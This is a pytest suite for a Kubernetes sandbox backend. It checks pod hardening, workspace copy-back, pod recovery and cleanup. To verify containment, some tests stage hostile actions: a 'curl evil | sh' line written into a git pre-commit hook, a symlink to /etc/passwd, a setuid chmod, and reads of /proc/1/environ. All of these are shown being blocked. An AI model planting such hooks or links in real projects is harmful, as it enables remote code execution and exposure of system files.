"""The Kubernetes session end to end: the real ``kubernetes`` client, the attach websocket, the
helper in a pod (a Docker container behind the fake API server, or a real cluster's pod)."""

from __future__ import annotations

import asyncio
import os
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.docker import DockerConfig
from sandbox.kubernetes.options import KubernetesOptions
from sandbox.kubernetes.session import KubernetesSession
from sandloop.errors import SandboxError, SandboxUnavailable
from tests.k8s.fake import V4, V5, FakeKubernetes

pytestmark = [pytest.mark.docker]


@pytest.fixture
async def session(user_workspace: Path, config: DockerConfig,
                  options: KubernetesOptions) -> AsyncIterator[KubernetesSession]:
    s = await KubernetesSession.create(user_workspace, config, options)
    try:
        yield s
    finally:
        await s.close()


async def test_a_hardened_pod_over_one_v5_stream(session: KubernetesSession, fake: FakeKubernetes | None) -> None:
    r = await session.run("id -u; grep CapEff /proc/self/status; ls /sys/class/net; touch /x 2>&1; "
                          "echo $PWD; test -w /workspace && echo writable")
    lines = r.stdout.text.splitlines()
    assert lines[0] == "1000"
    assert lines[1].split()[1] == "0000000000000000"  # no capability at all
    assert "Read-only file system" in r.stdout.text
    assert "/workspace" in lines and "writable" in lines
    assert session.protocol == V5
    assert session.hello is not None and session.hello["contained"] and session.hello["non_dumpable"]
    assert session.hello["pid"] == 1  # the helper is the pod's main process, as on Docker
    if fake is not None:
        assert "lo" in lines and "eth0" not in lines  # deny-all egress: no interface but lo
        attaches = [p for m, p in fake.requests if p.endswith("/attach?container=helper&stderr=true&stdin=true"
                                                              "&stdout=true&tty=false")]
        assert len(attaches) == 1  # ONE stream for the whole session


async def test_many_commands_in_parallel_share_the_stream(session: KubernetesSession) -> None:
    results = await asyncio.gather(*(session.run(f"sleep 0.2; echo {i}") for i in range(8)))
    assert [r.stdout.text for r in results] == [f"{i}\n" for i in range(8)]
    big = await session.run("head -c 900000 /dev/zero | tr '\\0' x")  # many websocket messages
    assert big.stdout.total_bytes == 900_000 and big.stdout.text == "x" * 900_000  # re-assembled


@pytest.mark.fake_only
async def test_an_old_api_server_gets_v4(user_workspace: Path, config: DockerConfig, options: KubernetesOptions,
                                         fake: FakeKubernetes) -> None:
    fake.protocols = (V4,)
    try:
        async with await KubernetesSession.create(user_workspace, config, options) as session:
            assert session.protocol == V4
            assert (await session.run("echo v4")).stdout.text == "v4\n"
    finally:
        fake.protocols = (V5, V4)
    assert fake.attaches[-1] == V4


async def test_the_helpers_code_is_out_of_reach(session: KubernetesSession) -> None:
    r = await session.run("ls /proc/1/fd 2>&1; cat /proc/1/environ 2>&1; "
                          "grep -rlsF 'from sandbox.helper.main import main' / --exclude-dir=proc --exclude-dir=sys "
                          "--exclude-dir=usr; "
                          "echo done")
    out = r.stdout.text
    assert out.count("Permission denied") == 2, out  # non-dumpable: no descriptors, no environment
    assert out.splitlines()[-1] == "done" and len(out.splitlines()) == 3  # and no file holds its code


async def test_workspace_in_and_back(user_workspace: Path, config: DockerConfig,
                                     options: KubernetesOptions) -> None:
    ws = user_workspace
    (ws / "a.txt").write_text("one\n")
    (ws / "gone.txt").write_text("bye\n")
    (ws / "link").symlink_to("a.txt")
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    async with await KubernetesSession.create(ws, config, options) as session:
        r = await session.run("cat a.txt link .git/HEAD; readlink link")
        assert r.stdout.text == "one\none\nref: refs/heads/main\na.txt\n"  # all of it, links as links
        script = ("echo two > a.txt && rm gone.txt && mkdir -p sub/deep && echo new > sub/deep/n.txt && "
                  "printf '#!/bin/sh\\n' > tool.sh && chmod 755 tool.sh && ! chmod 4755 tool.sh && "
                  "ln -s /etc/passwd planted")
        assert (await session.run(script)).exit_code == 0
        hook = await session.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
        assert hook.exit_code != 0 and "Read-only file system" in hook.stderr.text  # as on Docker
        result = await session.copy_back()  # on demand, before close
        assert sorted(result.written) == ["a.txt", "sub/deep/n.txt", "tool.sh"]
        assert result.deleted == ["gone.txt"]
        assert [s.split(":")[0] for s in result.skipped] == ["planted"]
        assert (ws / "a.txt").read_text() == "two\n" and not (ws / "gone.txt").exists()
        await session.run("echo three > a.txt")
    # ... and at close
    assert (ws / "a.txt").read_text() == "three\n"
    assert (ws / "sub" / "deep" / "n.txt").read_text() == "new\n"
    mode = stat.S_IMODE((ws / "tool.sh").stat().st_mode)
    assert mode == 0o755  # executable, never setuid on the host
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()  # .git stays the host's
    assert not (ws / "planted").exists() and not (ws / "planted").is_symlink()
    assert (ws / "link").is_symlink()


async def test_a_host_edit_refuses_the_whole_copy_back(user_workspace: Path, config: DockerConfig,
                                                       options: KubernetesOptions) -> None:
    (user_workspace / "a.txt").write_text("one\n")
    async with await KubernetesSession.create(user_workspace, config, options) as session:
        await session.run("echo pod > a.txt; echo pod > b.txt")
        (user_workspace / "a.txt").write_text("host\n")
        with pytest.raises(SandboxError, match=r"nothing written: changed on the host since the session started: "
                                               r"a.txt"):
            await session.copy_back()
        assert (user_workspace / "a.txt").read_text() == "host\n"
        assert not (user_workspace / "b.txt").exists()  # all or nothing
        await session.run("echo host > a.txt")  # the pod agrees again: b.txt may now come home
    assert (user_workspace / "b.txt").read_text() == "pod\n"


async def test_a_deleted_pod_mid_call_is_replaced(session: KubernetesSession, user_workspace: Path) -> None:
    (user_workspace / "kept.txt").write_text("host\n")
    call = asyncio.ensure_future(session.run("touch started; sleep 60"))
    for _ in range(500):  # until the command runs (a condition, not a clock)
        if (await session.run("test -e started")).exit_code == 0:
            break
    first = session.pod
    assert first is not None
    await asyncio.to_thread(session.cluster.delete_pod, first)  # kubectl delete pod, mid-call
    with pytest.raises(SandboxUnavailable, match="stream"):
        await call
    r = await session.run("cat kept.txt; test -e started || echo fresh")
    assert r.stdout.text == "host\nfresh\n"  # a new pod, with the host checkout copied in again
    assert session.pod != first and session.restarts == 1
    assert "sandbox pod died" in session.notes[0] and "copy-back" in session.notes[0]


@pytest.mark.fake_only
async def test_a_killed_container_is_a_dead_pod(session: KubernetesSession, fake: FakeKubernetes) -> None:
    call = asyncio.ensure_future(session.run("sleep 60"))
    await session.run("true")  # the stream is up and answering while the sleep runs
    assert session.pod is not None
    await asyncio.to_thread(fake.kill_pod, session.pod)  # what the OOM killer does
    with pytest.raises(SandboxUnavailable):
        await call
    assert (await session.run("echo back")).stdout.text == "back\n"
    assert "exit code 137" in session.notes[-1]


async def test_timeouts_end_the_command_not_the_pod(session: KubernetesSession) -> None:
    r = await session.run("echo before; sleep 30", timeout_s=0.5)
    assert r.timed_out and r.stdout.text == "before\n"
    assert (await session.run("echo after")).stdout.text == "after\n" and session.restarts == 0


async def test_close_leaves_nothing(user_workspace: Path, config: DockerConfig, options: KubernetesOptions) -> None:
    session = await KubernetesSession.create(user_workspace, config, options)
    pod = session.pod
    selector = f"sandloop.session={session.session_id}"
    assert session.cluster.list_pods(selector)
    await session.close()
    await session.close()  # idempotent
    from sandbox.kubernetes.cluster import Cluster

    cluster = Cluster(session.options)
    try:
        assert cluster.get_pod(str(pod)) is None
        assert cluster.list_pods(selector) == [] and cluster.list_network_policies(selector) == []
    finally:
        cluster.close()


def _stale_pod(name: str) -> dict[str, Any]:
    labels = {"sandloop.session": "deadbeef0000", "sandloop.owner_pid": "999999999", "sandloop.owner_start": "1",
              "sandloop.owner_host": os.uname().nodename, "sandloop.expires": "9999999999"}
    import socket

    labels["sandloop.owner_host"] = socket.gethostname()
    from sandbox import images

    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": labels},
            "spec": {"restartPolicy": "Never", "automountServiceAccountToken": False,
                     "containers": [{"name": "c", "image": images.image_name("minimal"),
                                     "command": ["sleep", "600"],
                                     "securityContext": {"runAsUser": 1000, "runAsNonRoot": True,
                                                         "allowPrivilegeEscalation": False,
                                                         "capabilities": {"drop": ["ALL"]}}}]}}


@pytest.mark.fake_only
def test_gc_reaps_by_labels(options: KubernetesOptions, fake: FakeKubernetes,
                            capsys: pytest.CaptureFixture[str]) -> None:
    from executor.cli import main
    from sandbox.cli import register  # noqa: F401 - the command under test is sandloop gc
    from sandbox.kubernetes.cluster import Cluster

    cluster = Cluster(options)
    try:
        cluster.create_pod(_stale_pod("left-behind"))
        code = main(["gc", "--backend", "kubernetes", "--set", f"kubeconfig={options.kubeconfig}"])
        assert code == 0
        out = capsys.readouterr().out
        assert "removed pod/left-behind: owner pid 999999999 is gone" in out
        assert cluster.get_pod("left-behind") is None
    finally:
        cluster.close()


@pytest.mark.fake_only
def test_doctor_checks_context_permissions_and_runtime_class(user_workspace: Path, options: KubernetesOptions,
                                                             fake: FakeKubernetes) -> None:
    from sandbox.kubernetes.backend import BACKEND

    report = BACKEND.doctor(user_workspace, options.model_copy(update={"runtime_class": "gvisor"}))
    assert report["context"]["name"] == "fake" and report["context"]["namespace"] == "sandloop"
    assert set(report["permissions"].values()) == {"allowed"}
    assert report["permissions"]["create pods/attach"] == "allowed"
    assert report["runtime_class"] == "gvisor: handler runsc"
    # A pod under gVisor with RuntimeDefault: Debian's runsc answers EPERM where that profile says
    # ENOSYS (clone3), so no thread could start — until the helper's own filter, installed before
    # its first thread, answers ENOSYS itself.
    assert report["session"]["runtime_class"] == "gvisor" and report["session"]["kernel_inside"] != os.uname().release
    assert report["session"]["seccomp"].startswith("sandloop's filter in force")
    fake.denied.add(("create", "pods", "attach"))
    try:
        report = BACKEND.doctor(user_workspace, options.model_copy(update={"runtime_class": "kata"}))
    finally:
        fake.denied.clear()
    assert report["ok"] is False
    assert report["permissions"]["create pods/attach"].startswith("DENIED")
    assert report["runtime_class"] == "kata: not installed"


@pytest.mark.fake_only  # builds the image locally: a real cluster would need it pushed
async def test_commands_get_the_images_path(user_workspace: Path, config: DockerConfig, options: KubernetesOptions,
                                            docker_client: Any, tmp_path: Path) -> None:
    # An environment image puts its tools first on PATH (/opt/env/bin); the pod starts it with
    # the image's configuration, and commands must find them there as on Docker.
    from dataclasses import replace

    from sandbox import images
    from sandbox.docker import DockerSession

    (tmp_path / "Dockerfile").write_text(f"FROM {images.image_name('shell')}\nENV PATH=/opt/marker/bin:$PATH\n")
    tag = f"sandloop-test-path:{os.getpid()}"  # its own: suites may run side by side
    docker_client.images.build(path=str(tmp_path), tag=tag, network_mode="none", rm=True, forcerm=True)
    try:
        async with await KubernetesSession.create(user_workspace, config, options.model_copy(update={"image": tag})) \
                as pod:
            assert (await pod.run("echo $PATH")).stdout.text.startswith("/opt/marker/bin:/usr/local/sbin:")
        async with await DockerSession.create(user_workspace, replace(config, image=tag), client=docker_client) \
                as container:
            assert (await container.run("echo $PATH")).stdout.text.startswith("/opt/marker/bin:/usr/local/sbin:")
    finally:
        docker_client.images.remove(tag, force=True)


async def test_an_open_session_does_not_idle_out(user_workspace: Path, config: DockerConfig,
                                                 options: KubernetesOptions) -> None:
    # The helper exits after idle_expiry_s without a request; a pod that did would take the
    # changes not yet copied back with it. An open session keeps its pod: a user thinking for
    # longer than the expiry loses nothing.
    from dataclasses import replace

    async with await KubernetesSession.create(user_workspace, replace(config, idle_expiry_s=1.5), options) as s:
        await s.run("echo kept > work.txt")
        pod = s.pod
        await asyncio.sleep(4.5)  # three expiries without a call from the model
        r = await s.run("cat work.txt")
        assert r.stdout.text == "kept\n" and s.pod == pod and s.restarts == 0 and s.take_notes() == []
    assert (user_workspace / "work.txt").read_text() == "kept\n"


@pytest.mark.fake_only
async def test_changes_lost_with_a_pod_are_said_at_close(user_workspace: Path, config: DockerConfig,
                                                         options: KubernetesOptions, fake: FakeKubernetes) -> None:
    s = await KubernetesSession.create(user_workspace, config, options)
    await s.run("echo gone > lost.txt")
    assert s.pod is not None
    fake.kill_pod(s.pod)
    helper = s._helper
    assert helper is not None
    for _ in range(200):  # until the stream's end reaches the reader
        if not helper.alive:
            break
        await asyncio.sleep(0.05)
    await s.close()
    assert not (user_workspace / "lost.txt").exists()
    (note,) = s.take_notes()
    assert "ended before the session closed" in note and "since the last copy-back are lost" in note
